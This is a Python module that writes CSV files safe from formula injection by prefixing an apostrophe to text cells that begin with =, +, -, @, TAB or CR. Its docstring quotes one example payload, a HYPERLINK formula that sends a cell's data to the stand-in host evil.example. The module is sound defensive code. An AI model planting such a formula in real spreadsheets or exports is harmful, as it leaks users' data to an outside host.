"""CSV that a spreadsheet opens without running anything: the one writer of every CSV file.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a TAB or a CR is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in a check-in
note sends the sheet's data away when clicked). Such a cell gets a leading ``'``, as OWASP
recommends for CSV injection; the spreadsheet shows the text and does not evaluate it. Numbers
stay numbers: only ``str`` cells are text, everything else is written as it is.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | None


def text_cell(text: str) -> str:
    """``text`` as a spreadsheet shows it instead of evaluating it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """``header`` and ``rows`` as CSV (LF line ends); every ``str`` cell through ``text_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([text_cell(h) for h in header])
    for row in rows:
        writer.writerow([text_cell(c) if isinstance(c, str) else c for c in row])
    return buffer.getvalue()
